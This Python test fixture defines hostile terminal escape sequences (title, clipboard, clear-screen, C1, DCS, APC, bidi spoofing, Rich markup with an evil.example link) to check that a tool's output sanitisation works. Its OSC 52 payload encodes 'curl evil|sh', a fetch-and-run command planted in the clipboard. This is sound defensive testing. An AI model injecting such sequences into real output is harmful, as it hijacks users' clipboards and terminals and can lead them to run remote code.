"""The hostile corpus: text an attacker with write access to logs, tags or events would try.

Each entry is something a terminal acts on when printed raw (retitle, clipboard,
clear, reorder), plus Rich markup, which must be shown as typed.
"""

from __future__ import annotations

import re

ESC = "\x1b"
OSC_TITLE = f"{ESC}]0;pwned-title\x07"  # OSC 0, BEL-terminated: the window title
OSC_CLIPBOARD = f"{ESC}]52;c;Y3VybCBldmlsfHNo{ESC}\\"  # OSC 52, ST-terminated: the clipboard
CLEAR = f"{ESC}[2J{ESC}[H"  # CSI: clear the screen, cursor home
CSI_8BIT = "\x9b31m"  # the one-byte CSI (C1)
OSC_8BIT = "\x9d0;c1-title\x9c"  # C1 OSC with C1 ST
DCS = f"{ESC}P1$qm{ESC}\\"  # DCS request, answered by the terminal into stdin
APC = f"{ESC}_hidden{ESC}\\"
BIDI = "\u202eexe.txt\u202c \u2066isolated\u2069"
MARKUP = "[red]x[/red] [link=https://evil.example]click[/link]"

HOSTILE = f"hostile {MARKUP} {OSC_TITLE}{OSC_CLIPBOARD}{CLEAR}{CSI_8BIT}{OSC_8BIT}{DCS}{APC}{BIDI}"
"""One string with every case; ``hostile`` starts it so it can be found on screen."""

# What no output of shipdeck may hold: ESC, BEL, other C0 but tab/newline, DEL, C1, bidi.
_FORBIDDEN = re.compile("[\x00-\x08\x0b-\x1f\x7f-\x9f\u202a-\u202e\u2066-\u2069]")


def leaks(text: str) -> list[str]:
    """The forbidden characters in ``text`` with a little context, for a readable failure."""
    return [repr(text[max(m.start() - 20, 0) : m.end() + 20]) for m in _FORBIDDEN.finditer(text)]
